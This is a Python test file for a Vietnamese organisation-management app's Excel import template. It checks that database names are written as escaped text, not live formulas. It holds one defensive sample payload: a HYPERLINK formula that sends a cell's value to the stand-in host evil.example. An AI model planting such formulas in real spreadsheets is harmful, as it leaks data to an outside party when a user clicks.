"""The downloadable import template: official names from the database are written as text, never as formulas."""

import io

from openpyxl import load_workbook

from lantoa.orgs import imports, selectors, services
from lantoa.orgs.importers import COMMUNE_SHEET, template_workbook
from lantoa.orgs.models import Enterprise, OrgUnit

from .workbooks import enterprise_row, filled_template

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_a_commune_named_like_a_formula_is_written_as_text_and_still_imports(province, union_officer):
    hostile, _created = services.unit_save(code="99999", name=HOSTILE, kind=OrgUnit.Kind.COMMUNE, parent=province)
    workbook = load_workbook(io.BytesIO(template_workbook(communes=selectors.communes_list())))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert not any(isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")) for cell in cells)
    listed = [row for row in workbook[COMMUNE_SHEET].iter_rows(values_only=True) if row[0] == "99999"]
    assert listed == [("99999", "'" + HOSTILE)]

    # The officer picks the name from the template's list: the import finds that commune.
    data = filled_template(enterprises=[enterprise_row(commune="'" + HOSTILE)])
    result = imports.workbook_import(stream=io.BytesIO(data), user=union_officer)
    assert result.ok, [str(problem) for problem in result.problems]
    assert Enterprise.objects.get(tax_code="1600000501").commune == hostile
